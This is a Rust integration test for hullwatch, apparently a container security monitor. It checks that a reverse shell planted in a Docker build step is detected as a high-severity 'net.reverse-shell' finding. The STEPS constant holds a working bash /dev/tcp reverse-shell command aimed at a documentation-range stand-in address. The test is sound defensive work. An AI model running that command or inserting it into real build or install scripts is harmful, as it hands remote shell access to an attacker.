//! Attacks in a step of an image build, where much that is drift elsewhere is normal.

use hullwatch::detect::Severity;

use crate::scenarios::watch::{Watch, now};
use crate::scenarios::{batch, docker, peer, ready};

/// A package's install script that connects to an attacker, as in supply-chain attacks.
const STEPS: &str = "FROM hullwatch-test:servers\n\
    RUN echo ordinary >/etc/app.conf\n\
    RUN bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'; true\n";

#[test]
fn a_reverse_shell_in_a_build_step_is_found() {
    if !ready() {
        return;
    }
    let _one = batch::alone();
    let watch = Watch::start();
    peer::start();
    let context = tempfile::tempdir().unwrap();
    std::fs::write(context.path().join("Dockerfile"), STEPS).unwrap();
    let (tag, network) = (
        "hullwatch-test-attacked-build",
        format!("container:{}", peer::NAME),
    );
    let directory = context.path().to_str().unwrap();
    let arguments = ["build", "--no-cache", "--rm", "-t", tag, "--network"];
    let out = docker(&[&arguments[..], &[&network, directory]].concat());
    watch.passes(now(), 7);
    peer::stop();
    let out = out.unwrap();
    docker(&["rmi", "-f", tag]).unwrap();
    let ids: Vec<&str> = out
        .lines()
        .filter_map(|line| line.split("Running in ").nth(1))
        .map(str::trim)
        .collect();
    let [ordinary, attacked] = ids[..] else {
        panic!("steps of the build:\n{out}");
    };
    let found = watch.findings_of(attacked);
    let beside = watch.findings_of(ordinary);
    assert!(watch.stop().is_empty(), "events were lost");
    assert!(
        found
            .iter()
            .any(|f| f.rule == "net.reverse-shell" && f.severity >= Severity::High),
        "{found:?}"
    );
    assert!(
        beside.iter().all(|f| f.severity < Severity::Medium),
        "{beside:?}"
    );
}
